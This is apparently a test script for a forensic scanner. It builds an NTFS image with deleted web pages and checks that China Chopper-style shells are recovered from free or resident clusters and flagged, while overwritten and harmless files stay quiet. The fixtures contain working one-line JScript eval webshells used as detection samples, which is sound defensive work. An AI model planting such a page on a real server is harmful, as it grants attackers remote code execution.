#!/bin/sh
# What survives of deleted files is scanned like a live file: a Chopper
# shell deleted from aspnet_client (resident in its MFT record) and a
# larger one (its clusters still free) are alerts with origin "deleted"
# and the rule that matched; a page whose clusters a later file took is
# counted as overwritten and never matched on the later file's bytes; a
# deleted text file is read and stays quiet.  The Sleuth Kit's icat, an
# independent reader, gives the same bytes for the free and resident data.
. "$TOP/tests/lib/tap.sh"

# More than 4 KiB: non-resident; the marker sits at the end.
python3 - "$TMP/big.aspx" <<'PY'
import sys
pad = ''.join('<!-- padding line %04d: an ordinary page comment -->\r\n' % i
              for i in range(120))
open(sys.argv[1], 'w').write('<%@ Page Language="Jscript"%>\r\n' + pad +
                             '<%eval(Request.Item["zz"],"unsafe");%>\r\n')
PY
ok $? "a 6.5 KiB shell page generated"
# Records from 64: inetpub 64, wwwroot 65, aspnet_client 66, gone 67,
# big 68, reused 69, readme 70.  reused.aspx is deleted first so that
# later.bin takes its clusters.
cat >"$TMP/del.spec" <<'SPEC'
disk none
part ntfs start=0 size=16M
mkdir \inetpub\wwwroot\aspnet_client
file \inetpub\wwwroot\aspnet_client\gone.aspx text:<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>
file \inetpub\wwwroot\aspnet_client\big.aspx from:big.aspx
file \inetpub\wwwroot\aspnet_client\reused.aspx from:big.aspx
file \inetpub\wwwroot\aspnet_client\readme.txt text:nothing to see here
file \inetpub\wwwroot\iisstart.htm text:<html><body>IIS</body></html>
delete \inetpub\wwwroot\aspnet_client\reused.aspx
file \Temp\later.bin size=64K fill=0x55
delete \inetpub\wwwroot\aspnet_client\gone.aspx
delete \inetpub\wwwroot\aspnet_client\big.aspx
delete \inetpub\wwwroot\aspnet_client\readme.txt
SPEC
mkimage "$TMP/del.spec" "$TMP/del.img"; ok $? "fixture with deleted shells builds"
IMAGES="$TMP/del.img"

run files "$TMP/del.img" --deleted --jsonl --hash
cp "$TMP/out" "$TMP/listing"
state() {	# state NAME: content state and sha256 of the deleted NAME
	python3 -c 'import json,sys
for l in open(sys.argv[1]):
    d = json.loads(l)
    if d["name"] == sys.argv[2]:
        print(d["content"], d.get("sha256", "-"))' "$TMP/listing" "$1"
}
[ "$(state reused.aspx)" = "overwritten -" ]
ok $? "the page whose clusters later.bin took: overwritten, not hashed"
[ "$(state big.aspx | cut -d' ' -f1)" = free ]
ok $? "the large shell: its clusters are still free"
[ "$(state big.aspx | cut -d' ' -f2)" = "$(sha256sum "$TMP/big.aspx" | cut -d' ' -f1)" ]
ok $? "its content read from the free clusters is the page written, byte for byte"

run scan "$TMP/del.img" --out "$TMP/res" --letter 1=C
F="$TMP/res/findings.jsonl"
hit() {	# hit NAME RULE: an alert from deleted content on NAME by RULE
	python3 -c 'import json,sys
hits = [d for d in map(json.loads, open(sys.argv[1]))
        if d["path"].endswith("\\" + sys.argv[2]) and
        d.get("origin") == "deleted" and d["level"] == "alert" and
        any(r["name"] == sys.argv[3] for r in d["reasons"])]
sys.exit(0 if len(hits) == 1 else 1)' "$F" "$@"
}
hit gone.aspx EXH_WEBSHELL_Chopper_JScript_Eval
ok $? "the resident deleted shell: one alert, origin deleted, the Chopper rule"
hit big.aspx EXH_WEBSHELL_Chopper_JScript_Eval
ok $? "the non-resident deleted shell: one alert from its free clusters"
python3 -c 'import json,sys
d = [d for d in map(json.loads, open(sys.argv[1]))
     if d["path"].endswith("\\big.aspx") and d.get("origin") == "deleted"][0]
r = [r for r in d["reasons"] if r["name"] == "deleted-content"]
sys.exit(0 if r and r[0]["detail"] == "content free (may be partial)" and
         d["mft"] == 68 else 1)' "$F"
ok $? "the finding says the content came from free clusters, with its MFT record"
python3 -c 'import json,sys
sys.exit(1 if [d for d in map(json.loads, open(sys.argv[1]))
     if d.get("origin") == "deleted" and
     (d["path"].endswith("reused.aspx") or d["path"].endswith("readme.txt"))
     and any(r["kind"] == "yara" for r in d["reasons"])] else 0)' "$F"
ok $? "neither the overwritten page nor the deleted text file is matched"
grep -q 'later.bin' "$F"; [ $? -ne 0 ]; ok $? "the live file on the reused clusters: no finding"
grep -q 'deleted content: volume C: 4 deleted files in scope: 3 scanned (2 resident, 1 on free clusters, may be partial), 1 overwritten (not scanned)' \
    "$TMP/err"; ok $? "the record counts deleted files scanned and overwritten"
grep -q 'reused.aspx (content overwritten)' "$F"
ok $? "the overwritten page is reported as content overwritten"
python3 -c 'import json,sys
hits = [d for d in map(json.loads, open(sys.argv[1]))
        if d["check"] == "history/deleted-script-webroot"]
sys.exit(0 if len(hits) == 1 and hits[0]["level"] == "warning" and
         hits[0]["origin"] == "deleted" else 1)' "$F"
ok $? "deleted scripts in a web folder stay a warning, whatever their content"

run scan "$TMP/del.img" --out "$TMP/res2" --letter 1=C --no-history
grep -q '"origin":"deleted"' "$TMP/res2/findings.jsonl"; [ $? -ne 0 ]
ok $? "--no-history: no deleted record is read"

if command -v icat >/dev/null 2>&1; then
	icat "$TMP/del.img" 68 | sha256sum | cut -d' ' -f1 >"$TMP/theirs"
	icat "$TMP/del.img" 67 | sha256sum | cut -d' ' -f1 >>"$TMP/theirs"
	{ state big.aspx; state gone.aspx; } | cut -d' ' -f2 >"$TMP/ours"
	cmp -s "$TMP/ours" "$TMP/theirs"
	ok $? "icat reads the same bytes for the free and the resident shell"
else
	skip "icat not installed (sleuthkit)"
fi
[ "${UNCHANGED_CHECKS:-0}" -gt 0 ]; ok $? "image unchanged by every run"
done_testing
